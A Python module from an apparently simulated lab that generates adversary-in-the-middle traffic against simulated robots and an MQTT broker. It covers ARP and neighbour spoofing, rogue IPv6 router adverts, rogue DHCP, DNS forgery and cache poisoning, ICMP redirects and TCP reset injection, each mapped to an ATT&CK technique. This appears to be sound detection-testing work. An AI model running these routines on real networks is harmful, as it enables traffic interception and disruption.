"""Adversary in the middle: false answers about who has which address, and which name is where."""

import struct
from typing import Final

from croody_contract.flows.packets import ACK, RST
from croody_edge.sim.lab import frames, words
from croody_edge.sim.lab.attacks.attack import Attack, Given
from croody_edge.sim.lab.attacks.scans import send, targets
from croody_edge.sim.lab.host import Host
from croody_edge.sim.lab.site import INSIDE, MQTT

_FAMILY: Final = "adversary in the middle"


async def arp_spoofing(me: Host, given: Given) -> None:
    """Tells a robot and the broker that each is at its own link address."""
    victim, broker = me.rng.choice(targets(me, "robot")), me.site.one("broker")
    for _ in range(int(given["claims"])):
        for told, lie in ((victim, broker), (broker, victim)):
            claim = frames.arp(2, me.machine.mac, lie.address, told.address, told.mac)
            await me.frame(frames.ethernet(told.mac, me.machine.mac, frames.ARP, claim))
        await me.sleep(given["gap_ms"] / 1000)


async def neighbour_spoofing(me: Host, given: Given) -> None:
    """The same over IPv6."""
    victim, broker = me.rng.choice(targets(me, "robot")), me.site.one("broker")
    for _ in range(int(given["claims"])):
        for told, lie in ((victim, broker), (broker, victim)):
            claim = frames.neighbour(lie.address6, told.address6, me.machine.mac, answer=True)
            await me.frame(frames.ethernet(told.mac, me.machine.mac, frames.IPV6, claim))
        await me.sleep(given["gap_ms"] / 1000)


async def false_router(me: Host, given: Given) -> None:
    """Announces itself as the router of IPv6."""
    body = b"\x40\x00\x07\x08" + bytes(8) + b"\x03\x04\x40\xc0" + struct.pack("!III", 86_400, 14_400, 0) + frames.packed("2001:db8:bad::")
    for _ in range(int(given["claims"])):
        packet = frames.icmp(me.machine.address6, "ff02::1", 134, 0, body + b"\x01\x01" + me.machine.mac)
        await me.frame(frames.ethernet(frames.multicast_mac("ff02::1"), me.machine.mac, frames.IPV6, packet))
        await me.sleep(given["gap_ms"] / 1000)


async def false_leases(me: Host, given: Given) -> None:
    """Answers whoever looks for an address, with itself as the router."""
    for _ in range(int(given["claims"])):
        victim = me.rng.choice(targets(me, "robot"))
        packet = frames.udp(
            me.machine.address,
            67,
            "255.255.255.255",
            68,
            words.offer(me.rng, victim.mac, f"{INSIDE}{me.rng.randrange(2, 250)}", me.machine.address),
        )
        await me.frame(frames.ethernet(frames.BROADCAST, me.machine.mac, frames.IPV4, packet))
        await me.sleep(given["gap_ms"] / 1000)


async def false_names(me: Host, given: Given) -> None:
    """A victim asks for a name; beside the router's answer comes a false one that looks as if it were the router's."""
    victim, router = me.rng.choice(targets(me, "robot")), me.site.one("router")
    for _ in range(int(given["answers"])):
        number, port = me.rng.randrange(65_536), me.rng.randrange(33_000, 60_000)
        question = words.dns_question(number, me.rng.choice(("updates.example", "mirror.packages.example", "time.example")))
        await me.other(victim.name).ask(router.address, 53, question, source_port=port)
        forged = words.dns_answer(question, me.machine.address, ttl=me.rng.randrange(1, 10))
        await send(me, victim, frames.udp(router.address, 53, victim.address, port, forged))
        await me.sleep(given["gap_ms"] / 1000)


async def guessed_answers(me: Host, given: Given) -> None:
    """False answers to a question that was just asked, with numbers that are tried one by one."""
    victim, router = me.rng.choice(targets(me, "robot")), me.site.one("router")
    for _ in range(int(given["questions"])):
        port = me.rng.randrange(33_000, 60_000)
        question = words.dns_question(me.rng.randrange(65_536), f"a{me.rng.randrange(10**6)}.updates.example")
        await me.other(victim.name).ask(router.address, 53, question, source_port=port)
        for _ in range(int(given["answers"])):
            forged = words.dns_answer(question, me.machine.address, number=me.rng.randrange(65_536))
            await send(me, victim, frames.udp(router.address, 53, victim.address, port, forged))
        await me.sleep(given["gap_ms"] / 1000)


async def poisoned_names(me: Host, given: Given) -> None:
    """A resolver of its own, which a robot was made to use, sends public names to an address of the site."""
    victim = me.rng.choice(targets(me, "robot"))
    for _ in range(int(given["answers"])):
        number, port = me.rng.randrange(65_536), me.rng.randrange(33_000, 60_000)
        name = me.rng.choice(("updates.example", "mirror.packages.example", "bank.example", "time.example"))
        question = words.dns_question(number, name)
        await me.other(victim.name).ask(me.machine.address, 53, question, source_port=port)
        answer = words.dns_answer(question, me.machine.address, ttl=1)
        await send(me, victim, frames.udp(me.machine.address, 53, victim.address, port, answer))
        await me.sleep(given["gap_ms"] / 1000)


async def redirects(me: Host, given: Given) -> None:
    """ICMP: tells robots that the way to the broker leads through itself."""
    router, broker = me.site.one("router"), me.site.one("broker")
    for _ in range(int(given["claims"])):
        victim = me.rng.choice(targets(me, "robot"))
        original = frames.tcp(victim.address, 40_000, broker.address, MQTT, ACK)[:28]
        packet = frames.icmp(router.address, victim.address, 5, 1, frames.packed(me.machine.address) + original)
        await send(me, victim, packet)
        await me.sleep(given["gap_ms"] / 1000)


async def cut_connections(me: Host, given: Given) -> None:
    """Resets in the name of the broker, so that robots lose their connections."""
    broker = me.site.one("broker")
    for _ in range(int(given["packets"])):
        victim = me.rng.choice(targets(me, "robot"))
        packet = frames.tcp(broker.address, MQTT, victim.address, me.rng.randrange(33_000, 60_000), RST, me.rng.randrange(2**32))
        await send(me, victim, packet)
        await me.sleep(given["gap_ms"] / 1000)


_CLAIMS: Final = {"claims": (5, 60), "gap_ms": (100, 2_000)}
ATTACKS: Final = (
    Attack("arp_spoofing", _FAMILY, "T0830", arp_spoofing, _CLAIMS, raw=True),
    Attack("neighbour_spoofing", _FAMILY, "T0830", neighbour_spoofing, _CLAIMS, raw=True),
    Attack("false_router", _FAMILY, "T0830", false_router, _CLAIMS, raw=True),
    Attack("false_leases", _FAMILY, "T1557.003", false_leases, _CLAIMS, raw=True),
    Attack("false_names", _FAMILY, "T1557", false_names, {"answers": (5, 40), "gap_ms": (100, 2_000)}, raw=True),
    Attack(
        "guessed_answers", _FAMILY, "T1557", guessed_answers, {"questions": (3, 20), "answers": (20, 200), "gap_ms": (100, 1_000)}, raw=True
    ),
    Attack("poisoned_names", _FAMILY, "T1584.002", poisoned_names, {"answers": (5, 40), "gap_ms": (100, 2_000)}, raw=True),
    Attack("redirects", _FAMILY, "T0830", redirects, _CLAIMS, raw=True),
    Attack("cut_connections", _FAMILY, "T0815", cut_connections, {"packets": (100, 2_000), "gap_ms": (2, 50)}, raw=True),
)
